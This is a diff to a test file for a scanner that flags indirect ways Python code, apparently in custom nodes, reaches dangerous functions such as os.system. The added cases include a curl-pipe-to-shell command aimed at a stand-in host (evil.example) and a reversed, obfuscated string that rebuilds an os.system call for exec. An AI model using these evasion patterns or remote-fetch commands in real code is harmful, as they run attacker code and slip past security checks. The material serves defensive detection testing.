@@ -63,7 +63,25 @@ describe('the checks hold indirect ways to dangerous functions', () => {
       'a bound function of a thread',
       'from functools import partial\nimport os, threading\ndef f(x): os.system(x)\nthreading.Thread(target=partial(f, "a")).start()\n',
     ],
-    ['a bound function as a key', 'from functools import partial\nimport os\nsorted([2, 1], key=partial(os.system))\n'],
+    [
+      'the function of a bound one',
+      'from functools import partial\nimport os\ndef f(): os.system("a")\npartial(f).func()\n',
+    ],
+    [
+      'a bound command',
+      node(
+        'partial(f, "curl https://evil.example/x | sh")()',
+        'import os\nfrom functools import partial\ndef f(c): os.system(c)',
+      ),
+    ],
+    [
+      'a text that split turns around',
+      node('exec("".join(re.split("", ")\'di\'(metsys.)\'so\'(__tropmi__")[::-1]))', 'import re'),
+    ],
+    [
+      'a bound function as a key',
+      'from functools import partial\nimport os\ndef f(x): os.system(x)\nsorted([2, 1], key=partial(f))\n',
+    ],
     [
       'a compiled copy that is not compared with its source',
       {
@@ -301,10 +319,6 @@ describe('the checks do not hold', () => {
       'from functools import partial\nimport requests\ndef f(x=1): requests.get("https://a.example.com/")\ncallback = partial(f)\n',
     ],
     ['a ratio that is turned around in a node', node('eval("/".join(x.split("/")[::-1]))')],
-    [
-      'code that the workflow gives',
-      'class A:\n    @classmethod\n    def IS_CHANGED(cls, code=None): return eval(code, {"a": 1})\nNODE_CLASS_MAPPINGS = {"A": A}\n',
-    ],
     ['a compiled copy of a source that was removed', { '__init__.py': '', '__pycache__/a.cpython-310.pyc': 'x' }],
     [
       'one of many files',
